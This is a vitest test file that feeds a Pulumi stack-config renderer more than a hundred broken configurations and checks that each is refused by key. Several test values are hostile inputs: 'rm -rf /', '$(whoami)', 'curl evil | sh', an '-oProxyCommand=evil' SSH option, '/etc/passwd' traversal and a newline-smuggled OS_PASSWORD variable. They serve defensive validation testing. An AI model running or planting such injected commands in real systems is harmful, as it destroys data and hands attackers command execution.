import { spawn } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse, stringify } from "yaml";

// A new user's mistakes, one per stack file, each rendered with the real `npm run render`:
// every one must exit 2 naming its key, print no stack trace and write nothing.
const ROOT = join(__dirname, "..", "..");
const TSX = join(ROOT, "node_modules", ".bin", "tsx");
const work = mkdtempSync(join(tmpdir(), "config-corpus-"));
afterAll(() => rmSync(work, { recursive: true, force: true }));
/** A survey's list with a bad line, for canfar:observationIdsFile (an absolute path). */
const BAD_IDS = join(work, "w3-bad.txt");
writeFileSync(BAD_IDS, "# W3\n1056215p\n1056216\n");

type Config = Record<string, unknown>;
interface Case {
  what: string;
  edit: (c: Config) => void;
  /** The key the message must name (`canfar:` added unless it has a namespace). */
  key: string;
  /** A forged line that must not appear on a line of its own. */
  forged?: string;
}

const set = (key: string, value: unknown) => (c: Config) => {
  c[key.includes(":") ? key : `canfar:${key}`] = value;
};
const remove = (key: string) => (c: Config) => {
  delete c[`canfar:${key}`];
};
const FORGE = "\n  - canfar:cadcUser: all good";
/** The dev stack turned self-hosted: CANFAR's batch host keys out, the pool's secret in. */
const CANFAR_KEYS = ["batchHost", "batchHostKey", "batchUser", "batchPort", "submitMode", "openstackAuthUrl", "openstackProjectName", "openstackProjectId", "openstackUserDomainName"];
const selfHosted = (c: Config) => {
  set("batchSystem", "self-hosted")(c);
  set("poolPassword", { secure: "AAABACORPUS-pool-password" })(c);
  for (const k of CANFAR_KEYS) remove(k)(c);
};
const then = (...edits: Array<(c: Config) => void>) => (c: Config) => edits.forEach((e) => e(c));
const CYRILLIC_A = "\u0430";
// The example stack's public key and batch host key (base64 only): whole ed25519 keys.
const DEV_KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIIpEv4uMcbOLzytgkrpX2BXl0eivKchmUVOQWxaP/QFv";
const HOST_KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIE7f2d9b1QmW6Jc0S1dY3b7g2Z0y8fG4uKpQm9vR1sTb";
const RSA_1024 =
  "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQCuBfdtY21rzl8fmn093Q9AI7HPtKoHFQAfD4yIlEKmIWUNOlbPuwiesgp6clYfqIm3E8OVjAmh6A+8uGjmto1X9kHnCdqlDEhYEM8OrXSjWiO9yc6WO3vh6QsxDas8agVRiIaTzYSL/jCNaQdFmVLa3bDujYL4xyVr9FypOWsxEQ== old@example.org";

const BROKEN: Case[] = [
  { what: "persistent flavor", edit: set("flavor", "p8-12gb"), key: "flavor" },
  { what: "foreign flavor", edit: set("flavor", "m1.large"), key: "flavor" },
  { what: "flavor with a forged line", edit: set("flavor", `c2-7.5gb-30${FORGE}`), key: "flavor", forged: FORGE },
  { what: "flavor as a number", edit: set("flavor", 12), key: "flavor" },
  { what: "blank flavor", edit: set("flavor", null), key: "flavor" },
  { what: "huge flavor", edit: set("flavor", `c2-7.5gb-${"3".repeat(5000)}`), key: "flavor" },
  { what: "rocky image with ubuntu distro", edit: then(set("image", "canfar-rocky-8"), set("distro", "ubuntu")), key: "distro" },
  { what: "image path traversal", edit: set("image", "../../etc/passwd"), key: "image" },
  { what: "image too long", edit: set("image", "x".repeat(300)), key: "image" },
  { what: "image with shell", edit: set("image", "canfar-ubuntu-20.04; rm -rf /"), key: "image" },
  { what: "unknown distro", edit: set("distro", "windows"), key: "distro" },
  { what: "blank distro", edit: set("distro", null), key: "distro" },
  { what: "capital default user", edit: set("defaultUser", "Root"), key: "defaultUser" },
  { what: "default user command substitution", edit: set("defaultUser", "$(whoami)"), key: "defaultUser" },
  { what: "blank network", edit: set("network", null), key: "network" },
  { what: "network with a space", edit: set("network", "my net"), key: "network" },
  { what: "network as a boolean", edit: set("network", true), key: "network" },
  { what: "missing network", edit: remove("network"), key: "network" },
  { what: "pool with a bidi override", edit: set("floatingIpPool", "Public\u202eNetwork"), key: "floatingIpPool" },
  { what: "floating IP out of range", edit: (c) => { set("floatingIp", "999.1.1.1")(c); remove("floatingIpPool")(c); }, key: "floatingIp" },
  { what: "floating IP and pool both", edit: then(set("floatingIp", "206.12.90.10"), set("floatingIpPool", "Public-Network")), key: "floatingIp" },
  { what: "public key not a key", edit: set("sshPublicKey", "not a key"), key: "sshPublicKey" },
  { what: "blank public key", edit: set("sshPublicKey", null), key: "sshPublicKey" },
  { what: "public key with a line break", edit: set("sshPublicKey", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA\ninjected"), key: "sshPublicKey" },
  { what: "huge public key", edit: set("sshPublicKey", `ssh-ed25519 ${"A".repeat(20_000)}`), key: "sshPublicKey" },
  { what: "public key wrapped over two lines (YAML joins them with a space)", edit: set("sshPublicKey", `ssh-ed25519 ${DEV_KEY.slice(0, 30)} ${DEV_KEY.slice(30)} astronomer@example.org`), key: "sshPublicKey" },
  { what: "public key cut short", edit: set("sshPublicKey", `ssh-ed25519 ${DEV_KEY.slice(0, 60)} astronomer@example.org`), key: "sshPublicKey" },
  { what: "public key of junk base64", edit: set("sshPublicKey", "ssh-ed25519 AAAAjunkjunkjunk= astronomer@example.org"), key: "sshPublicKey" },
  { what: "public key whose blob is another type", edit: set("sshPublicKey", `ssh-rsa ${DEV_KEY} astronomer@example.org`), key: "sshPublicKey" },
  { what: "RSA public key of 1024 bits", edit: set("sshPublicKey", RSA_1024), key: "sshPublicKey" },
  { what: "batch host key wrapped over two lines", edit: set("batchHostKey", `batch.canfar.net ssh-ed25519 ${HOST_KEY.slice(0, 40)} ${HOST_KEY.slice(40)}`), key: "batchHostKey" },
  { what: "batch host key cut short", edit: set("batchHostKey", `batch.canfar.net ssh-ed25519 ${HOST_KEY.slice(0, 56)}`), key: "batchHostKey" },
  { what: "batch host key whose blob is another type", edit: set("batchHostKey", `batch.canfar.net ecdsa-sha2-nistp256 ${HOST_KEY}`), key: "batchHostKey" },
  { what: "private key in plain text", edit: set("sshPrivateKey", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl\n-----END OPENSSH PRIVATE KEY-----"), key: "sshPrivateKey" },
  { what: "no SSH ranges", edit: set("sshIngressCidrs", []), key: "sshIngressCidrs" },
  { what: "SSH from anywhere", edit: set("sshIngressCidrs", ["0.0.0.0/0"]), key: "sshIngressCidrs[0]" },
  { what: "prefix too long", edit: set("sshIngressCidrs", ["198.51.100.0/33"]), key: "sshIngressCidrs[0]" },
  { what: "host bits set", edit: set("sshIngressCidrs", ["198.51.100.1/24"]), key: "sshIngressCidrs[0]" },
  { what: "ranges not a list", edit: set("sshIngressCidrs", "198.51.100.0/24"), key: "sshIngressCidrs" },
  { what: "range as a number", edit: set("sshIngressCidrs", [24]), key: "sshIngressCidrs[0]" },
  { what: "range listed twice", edit: set("sshIngressCidrs", ["198.51.100.0/24", "198.51.100.0/24"]), key: "sshIngressCidrs[1]" },
  { what: "range with a forged line", edit: set("sshIngressCidrs", [`198.51.100.0/24${FORGE}`]), key: "sshIngressCidrs[0]", forged: FORGE },
  { what: "anywhere opt-in not a boolean", edit: set("allowSshFromAnywhere", "maybe"), key: "allowSshFromAnywhere" },
  { what: "blank CADC user (null)", edit: set("cadcUser", null), key: "cadcUser" },
  { what: "CADC user with a space", edit: set("cadcUser", "Bad User"), key: "cadcUser" },
  { what: "CADC user as a boolean", edit: set("cadcUser", true), key: "cadcUser" },
  { what: "CADC user with a look-alike letter", edit: set("cadcUser", `${CYRILLIC_A}stronomer`), key: "cadcUser" },
  { what: "CADC user too long", edit: set("cadcUser", "a".repeat(40)), key: "cadcUser" },
  { what: "huge CADC user", edit: set("cadcUser", "a".repeat(10_000)), key: "cadcUser" },
  { what: "password in plain text", edit: set("cadcPassword", "hunter2"), key: "cadcPassword" },
  { what: "VOSpace path traversal", edit: set("vospace", "vos:me/../etc"), key: "vospace" },
  { what: "VOSpace not vos:", edit: set("vospace", "http://evil.example.org/"), key: "vospace" },
  { what: "blank VOSpace", edit: set("vospace", null), key: "vospace" },
  { what: "no exposures", edit: set("observationIds", []), key: "observationIds" },
  { what: "exposure without its letter", edit: set("observationIds", ["1056215"]), key: "observationIds" },
  { what: "exposure twice", edit: set("observationIds", ["1056215p", "1056215p"]), key: "observationIds" },
  { what: "exposure as a number", edit: set("observationIds", [1056215]), key: "observationIds[0]" },
  { what: "exposure with shell", edit: set("observationIds", ["1056215p; rm -rf ~"]), key: "observationIds" },
  { what: "exposures not a list", edit: set("observationIds", "1056215p"), key: "observationIds" },
  { what: "exposure file that is not there", edit: then(remove("observationIds"), set("observationIdsFile", "surveys/w3.txt")), key: "observationIdsFile" },
  { what: "exposure file with a bad line", edit: then(remove("observationIds"), set("observationIdsFile", BAD_IDS)), key: "observationIdsFile" },
  { what: "exposure file and list both", edit: set("observationIdsFile", "tests/fixtures/exposures-five.txt"), key: "observationIdsFile" },
  { what: "a queue policy that does not exist", edit: set("queuePolicy", "failed"), key: "queuePolicy" },
  { what: "upgrade not a boolean", edit: set("upgradePackages", "perhaps"), key: "upgradePackages" },
  { what: "package with shell", edit: set("extraPackages", ["htop; curl evil | sh"]), key: "extraPackages[0]" },
  { what: "blank package", edit: set("extraPackages", [null]), key: "extraPackages[0]" },
  { what: "package with capitals", edit: set("extraPackages", ["Htop"]), key: "extraPackages[0]" },
  { what: "scratch device traversal", edit: set("scratchDevice", "/dev/../etc/passwd"), key: "scratchDevice" },
  { what: "scratch device not a path", edit: set("scratchDevice", "vdb"), key: "scratchDevice" },
  { what: "snapshot prefix too long for Glance", edit: set("snapshotPrefix", "x".repeat(240)), key: "snapshotPrefix" },
  { what: "snapshot prefix starting with -", edit: set("snapshotPrefix", "-image"), key: "snapshotPrefix" },
  { what: "snapshot timeout too short", edit: set("snapshotTimeoutSeconds", 10), key: "snapshotTimeoutSeconds" },
  { what: "snapshot timeout not a number", edit: set("snapshotTimeoutSeconds", "soon"), key: "snapshotTimeoutSeconds" },
  { what: "blank keep-image", edit: set("keepImageOnDestroy", null), key: "keepImageOnDestroy" },
  { what: "delete-VM not a boolean", edit: set("deleteBuildVmAfterSnapshot", "sometimes"), key: "deleteBuildVmAfterSnapshot" },
  { what: "batch host as an ssh option", edit: set("batchHost", "-oProxyCommand=evil"), key: "batchHost" },
  { what: "batch host with a line break", edit: set("batchHost", "batch.canfar.net\nevil"), key: "batchHost" },
  { what: "batch host key not a key", edit: set("batchHostKey", "batch.canfar.net is trusted"), key: "batchHostKey" },
  { what: "batch host without its key", edit: remove("batchHostKey"), key: "batchHostKey" },
  { what: "agent and a private key both", edit: set("sshAgent", true), key: "sshPrivateKey" },
  { what: "agent not a boolean", edit: set("sshAgent", "sometimes"), key: "sshAgent" },
  { what: "passphrase in plain text", edit: set("sshPrivateKeyPassphrase", "open sesame"), key: "sshPrivateKeyPassphrase" },
  { what: "batch user with shell", edit: set("batchUser", "root;id"), key: "batchUser" },
  { what: "batch port out of range", edit: set("batchPort", 70_000), key: "batchPort" },
  { what: "batch port a name", edit: set("batchPort", "ssh"), key: "batchPort" },
  { what: "a run longer than CADC's longest certificate", edit: set("expectedRunHours", 720), key: "expectedRunHours" },
  { what: "run length in days, not hours", edit: set("expectedRunHours", "2d"), key: "expectedRunHours" },
  { what: "unknown submit mode", edit: set("submitMode", "csv3"), key: "submitMode" },
  { what: "no exposure per job", edit: set("exposuresPerJob", 0), key: "exposuresPerJob" },
  { what: "more exposures per job than the limit", edit: set("exposuresPerJob", 65), key: "exposuresPerJob" },
  { what: "exposures per job as a word", edit: set("exposuresPerJob", "eight"), key: "exposuresPerJob" },
  { what: "more exposures per job than the workers' disk holds", edit: then(set("workerFlavor", "c2-7.5gb-5"), set("exposuresPerJob", 8)), key: "exposuresPerJob" },
  { what: "persistent worker flavor", edit: set("workerFlavor", "p8-12gb"), key: "workerFlavor" },
  { what: "a batch system that does not exist", edit: set("batchSystem", "slurm"), key: "batchSystem" },
  { what: "worker count without a pool of one's own", edit: set("workerCount", 2), key: "workerCount" },
  { what: "submit node flavor with CANFAR's batch service", edit: set("submitNodeFlavor", "p2-3gb"), key: "submitNodeFlavor" },
  { what: "pool password with CANFAR's batch service", edit: set("poolPassword", { secure: "AAABACORPUS" }), key: "poolPassword" },
  { what: "self-hosted with the batch host still set", edit: then(selfHosted, set("batchHost", "batch.canfar.net")), key: "batchHost" },
  { what: "self-hosted with a csv mode", edit: then(selfHosted, set("submitMode", "csv2")), key: "submitMode" },
  { what: "self-hosted with csv1's project", edit: then(selfHosted, set("openstackProjectId", "0123456789abcdef0123456789abcdef")), key: "openstackProjectId" },
  { what: "self-hosted without its secret", edit: then(selfHosted, remove("poolPassword")), key: "poolPassword" },
  { what: "pool password in plain text", edit: then(selfHosted, set("poolPassword", "x".repeat(44))), key: "poolPassword" },
  { what: "a short pool password", edit: then(selfHosted, set("poolPassword", "short")), key: "poolPassword" },
  { what: "more workers than a stack declares", edit: then(selfHosted, set("workerCount", 101)), key: "workerCount" },
  { what: "a negative worker count", edit: then(selfHosted, set("workerCount", -1)), key: "workerCount" },
  { what: "half a worker", edit: then(selfHosted, set("workerCount", 1.5)), key: "workerCount" },
  { what: "a submit node flavor it cannot read", edit: then(selfHosted, set("submitNodeFlavor", "m1.small")), key: "submitNodeFlavor" },
  { what: "auth URL smuggling a variable", edit: set("openstackAuthUrl", "https://keystone.example.org:5000/v3\nOS_PASSWORD=x"), key: "openstackAuthUrl" },
  { what: "auth URL not http", edit: set("openstackAuthUrl", "ftp://keystone.example.org/"), key: "openstackAuthUrl" },
  { what: "auth URL with a look-alike host", edit: set("openstackAuthUrl", `https://${CYRILLIC_A}rbutus.example.org:5000/v3`), key: "openstackAuthUrl" },
  { what: "blank project name", edit: set("openstackProjectName", null), key: "openstackProjectName" },
  { what: "project ID not hex", edit: set("openstackProjectId", "xyz"), key: "openstackProjectId" },
  { what: "missing project ID for csv1", edit: remove("openstackProjectId"), key: "openstackProjectId" },
  { what: "user domain with a space", edit: set("openstackUserDomainName", "CC DB"), key: "openstackUserDomainName" },
  { what: "blank cloud", edit: set("cloud", null), key: "cloud" },
  { what: "cloud with a space", edit: set("cloud", "arbutus canfar"), key: "cloud" },
  { what: "distro opt-in not a boolean", edit: set("allowDistroMismatch", "x"), key: "allowDistroMismatch" },
  { what: "key in the project's namespace (pulumi config set flavor ...)", edit: set("canfar-batch:flavor", "c2-15gb-31"), key: "canfar-batch:flavor" },
  { what: "misspelt namespace", edit: set("cnafar:flavor", "c2-15gb-31"), key: "cnafar:flavor" },
  { what: "provider key the program would ignore", edit: set("openstack:insecure", "true"), key: "openstack:insecure" },
  { what: "misspelt key", edit: set("flavour", "c2-15gb-31"), key: "flavour" },
];

const GOOD: Array<{ what: string; edit: (c: Config) => void }> = [
  { what: "the dev stack as it is", edit: () => {} },
  { what: "an adopted floating IP", edit: (c) => { set("floatingIp", "206.12.90.10")(c); remove("floatingIpPool")(c); } },
  { what: "rocky, the distro inferred", edit: (c) => { set("image", "canfar-rocky-8")(c); remove("distro")(c); remove("defaultUser")(c); } },
  { what: "a mislabelled image, opted in", edit: (c) => { set("image", "canfar-rocky-8")(c); set("distro", "ubuntu")(c); set("allowDistroMismatch", true)(c); } },
  { what: "csv2, an IPv6 range and extra packages", edit: (c) => { set("submitMode", "csv2")(c); set("sshIngressCidrs", ["198.51.100.0/24", "2001:db8::/32"])(c); set("extraPackages", ["htop", "python3-astropy"])(c); } },
  { what: "the longest snapshot prefix Glance takes", edit: set("snapshotPrefix", "x".repeat(233)) },
  { what: "a self-hosted pool of the defaults", edit: selfHosted },
  { what: "a survey's IDs from a file, queued if missing", edit: then(remove("observationIds"), set("observationIdsFile", "tests/fixtures/exposures-five.txt"), set("queuePolicy", "missing")) },
  { what: "a self-hosted pool with no workers, a small submit node", edit: then(selfHosted, set("workerCount", 0), set("submitNodeFlavor", "p2-3gb")) },
];

interface Rendered {
  code: number | null;
  stderr: string;
  wrote: boolean;
}

function writeStack(name: string, edit: (c: Config) => void): string {
  const doc = parse(readFileSync(join(ROOT, "Pulumi.dev.yaml"), "utf8")) as { config: Config };
  edit(doc.config);
  const path = join(work, `${name}.yaml`);
  writeFileSync(path, stringify(doc));
  return path;
}

function render(config: string, out: string): Promise<Rendered> {
  return new Promise((resolve, reject) => {
    const child = spawn(TSX, [join(ROOT, "tools", "render.ts"), "--stack", "dev", "--config", config, "--out", out], { cwd: ROOT });
    let stderr = "";
    child.stderr.on("data", (d: Buffer) => (stderr += d.toString()));
    child.on("error", reject);
    child.on("close", (code) => resolve({ code, stderr, wrote: existsSync(out) }));
  });
}

/** Renders every file, two at a time (the machine has two cores). */
async function renderAll(files: string[]): Promise<Rendered[]> {
  const results: Rendered[] = new Array<Rendered>(files.length);
  let next = 0;
  const worker = async () => {
    while (next < files.length) {
      const i = next++;
      results[i] = await render(files[i] as string, join(work, `out-${i}`));
    }
  };
  await Promise.all([worker(), worker()]);
  return results;
}

const keyOf = (key: string) => (key.includes(":") ? key : `canfar:${key}`);
const TRACE = /^\s+at\s|\.ts:\d+:\d+|\bError: (?!.*Invalid configuration)/m;

describe("a corpus of broken stack files, each rendered with npm run render", () => {
  let broken: Rendered[];
  let good: Rendered[];
  beforeAll(async () => {
    broken = await renderAll(BROKEN.map((c, i) => writeStack(`broken-${i}`, c.edit)));
    good = await renderAll(GOOD.map((c, i) => writeStack(`good-${i}`, c.edit)));
  }, 1_800_000);

  it("has at least 60 cases and touches every key", async () => {
    const { KNOWN_KEYS } = await import("../../config/schema");
    expect(BROKEN.length).toBeGreaterThanOrEqual(60);
    const touched = new Set(BROKEN.map((c) => c.key.replace(/\[\d+\]$/, "").replace(/^canfar:/, "")));
    expect(KNOWN_KEYS.filter((k) => !touched.has(k))).toEqual([]);
  });

  it("refuses each one with exit 2, naming its key, with no stack trace and nothing written", () => {
    const tally = { tried: BROKEN.length, byKey: 0, accepted: 0, traces: 0 };
    const failures: string[] = [];
    BROKEN.forEach((c, i) => {
      const r = broken[i] as Rendered;
      const named = r.stderr.includes(`\n  - ${keyOf(c.key)}: `);
      const trace = TRACE.test(r.stderr);
      if (r.code === 0) tally.accepted++;
      if (trace) tally.traces++;
      if (r.code === 2 && named && !r.wrote) tally.byKey++;
      else failures.push(`${c.what}: exit ${r.code}, ${named ? "" : "key not named, "}${r.wrote ? "wrote output, " : ""}stderr:\n${r.stderr.slice(0, 600)}`);
      if (c.forged) expect(r.stderr, c.what).not.toContain(c.forged);
    });
    process.stdout.write(`corpus: ${tally.tried} tried, ${tally.byKey} refused by key, ${tally.accepted} accepted, ${tally.traces} traces\n`);
    expect(failures).toEqual([]);
    expect(tally.traces).toBe(0);
  });

  it("renders the good variants", () => {
    GOOD.forEach((c, i) => {
      const r = good[i] as Rendered;
      expect(r.code, `${c.what}\n${r.stderr}`).toBe(0);
      expect(r.wrote, c.what).toBe(true);
    });
  });
});
